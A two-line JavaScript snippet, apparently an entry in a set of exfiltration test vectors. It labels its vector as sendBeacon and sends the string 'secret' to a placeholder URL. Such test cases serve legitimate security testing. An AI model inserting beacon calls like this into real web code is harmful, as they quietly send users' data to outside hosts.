// vector: sendBeacon
navigator.sendBeacon("$URL", "secret");
